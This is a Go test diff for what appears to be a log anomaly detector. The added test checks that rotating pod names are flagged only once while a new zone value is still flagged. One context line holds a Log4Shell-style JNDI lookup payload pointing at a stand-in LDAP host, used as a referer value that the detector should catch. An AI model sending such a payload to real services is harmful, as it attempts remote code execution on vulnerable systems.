@@ -134,3 +134,38 @@ func TestFieldNewPage(t *testing.T) {
 	w.flags(record(page(), "centre"), `section "centre" never seen`)
 	w.flags(record("${jndi:ldap://203.0.113.9/a}", section()), "referer")
 }
+
+// TestNamesThatComeAndGo: a field whose values are replaced all the time, however seldom, is
+// told for the first of them; a new value beside it, in a field of few, still is.
+func TestNamesThatComeAndGo(t *testing.T) {
+	rng := rand.New(rand.NewPCG(31, 31))
+	pods, n := [4]string{}, 0
+	record := func(zone string) string {
+		if n%3000 == 0 {
+			for i := range pods {
+				pods[i] = fmt.Sprintf("web-%s-%s", letters(rng, 9), letters(rng, 5))
+			}
+		}
+		n++
+		return fmt.Sprintf(`{"pod":%q,"verb":%q,"zone":%q,"ms":%d}`, pods[rng.IntN(len(pods))], pick(rng, "get", "list", "watch"), zone, 5+rng.IntN(90))
+	}
+	w := watch(t, func() string { return record(pick(rng, "a", "b", "c")) }, 60_000)
+	told := 0
+	for range 60_000 {
+		if v := w.see(w.next()); v.Anomaly && strings.HasPrefix(string(v.Reason), "pod") {
+			told++
+		}
+	}
+	if told > 4 {
+		t.Errorf("%d of 80 names that follow 80 others are told, at most 4 wanted", told)
+	}
+	w.flags(record("q"), `zone "q" never seen`)
+}
+
+func letters(rng *rand.Rand, n int) string {
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = "bcdfghjklmnpqrstvwxz2456789"[rng.IntN(27)]
+	}
+	return string(b)
+}
